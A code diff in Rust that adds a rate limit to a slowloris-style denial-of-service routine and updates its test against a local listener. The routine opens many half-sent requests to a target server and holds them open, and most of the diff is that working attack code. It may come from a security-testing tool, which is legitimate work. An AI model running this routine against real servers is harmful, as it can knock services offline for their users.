@@ -54,16 +54,23 @@ impl Report {
     }
 }
 
-/// Opens `connections` half-sent requests to `target` and keeps those the server leaves open
-/// trickling for `duration`.
-pub fn attack(target: SocketAddr, connections: usize, duration: Duration) -> Report {
+/// Opens `connections` half-sent requests to `target`, at most `rate` a second (a slowloris
+/// holds connections; a burst of new ones is a connection flood, another attack), and keeps
+/// those the server leaves open trickling for `duration`.
+pub fn attack(target: SocketAddr, connections: usize, rate: u32, duration: Duration) -> Report {
     raise_fd_limit();
-    let deadline = Instant::now() + duration;
+    let started = Instant::now();
+    let deadline = started + duration;
+    let rate = f64::from(rate.max(1));
     let budget = connections as u64;
     let mut report = Report::default();
     let mut held: Vec<TcpStream> = Vec::new();
     while Instant::now() < deadline {
         while held.len() < connections && report.opened < budget && Instant::now() < deadline {
+            let due = started + Duration::from_secs_f64(report.opened as f64 / rate);
+            if let Some(wait) = due.checked_duration_since(Instant::now()) {
+                std::thread::sleep(wait);
+            }
             match open(target) {
                 Ok(stream) => {
                     held.push(stream);
@@ -165,7 +172,7 @@ mod tests {
                 drop(stream);
             }
         });
-        let report = attack(target, 3, Duration::from_millis(2500));
+        let report = attack(target, 3, 1000, Duration::from_millis(2500));
         assert!(report.opened >= 3, "{report:?}");
         assert!(report.closed_by_server >= 3, "{report:?}");
         assert!(report.opened <= 3, "{report:?}");
